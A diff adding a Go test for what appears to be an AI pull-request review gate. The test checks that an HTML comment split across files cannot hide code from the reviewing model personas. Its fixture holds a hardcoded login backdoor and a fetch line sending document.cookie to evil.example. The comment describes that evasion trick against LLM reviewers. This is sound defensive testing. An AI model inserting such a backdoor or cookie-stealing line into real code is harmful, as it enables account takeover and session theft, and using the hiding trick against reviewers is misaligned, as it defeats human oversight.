@@ -203,3 +203,38 @@ func TestGateBotBumpGetsSkippedCheck(t *testing.T) {
 		t.Errorf("model requests %d; want 0", n)
 	}
 }
+
+// Item 1: an HTML comment opened in one file and closed in another hid
+// everything between from the personas, file headers included. Code is
+// never stripped now: the backdoor line reaches every persona that reviews
+// its file, and the JavaScript file's "<!--" line comment hides nothing.
+func TestGateCommentMarkersHideNoCode(t *testing.T) {
+	t.Parallel()
+	const backdoor = `if user == "debug" { return true } // backdoor`
+	const jsHidden = `fetch("https://evil.example/" + document.cookie)`
+	d := "diff --git a/a/README.md b/a/README.md\n--- a/a/README.md\n+++ b/a/README.md\n@@ -1,1 +1,2 @@\n # Docs\n+<!-- docs note\n" +
+		"diff --git a/auth/login.go b/auth/login.go\n--- a/auth/login.go\n+++ b/auth/login.go\n@@ -1,3 +1,4 @@\n package auth\n func Check(user, pass string) bool {\n+\t" + backdoor + "\n \treturn verify(user, pass)\n" +
+		"diff --git a/web/app.js b/web/app.js\n--- a/web/app.js\n+++ b/web/app.js\n@@ -1,1 +1,4 @@\n const a = 1;\n+<!-- legacy browsers\n+" + jsHidden + ";\n+--> end\n" +
+		"diff --git a/z/notes.md b/z/notes.md\n--- a/z/notes.md\n+++ b/z/notes.md\n@@ -1,1 +1,2 @@\n # Notes\n+end of note -->\n"
+	s := newStage(t)
+	pr := s.addPR(githubtest.PR{})
+	s.gh.SetDiff(pr.Number, d)
+	s.answers(nil)
+	s.event("pull_request", "pull_request.opened", pr)
+
+	r := s.run(nil)
+
+	reqs := s.model.RequestsFor("correctness")
+	if len(reqs) == 0 {
+		t.Fatalf("correctness was not asked%s", r.logs())
+	}
+	var prompt strings.Builder
+	for _, m := range reqs[0].Messages {
+		prompt.WriteString(m.Content)
+	}
+	for _, want := range []string{backdoor, jsHidden, "+++ b/auth/login.go", "+++ b/z/notes.md"} {
+		if !strings.Contains(prompt.String(), want) {
+			t.Errorf("the correctness prompt lacks %q", want)
+		}
+	}
+}
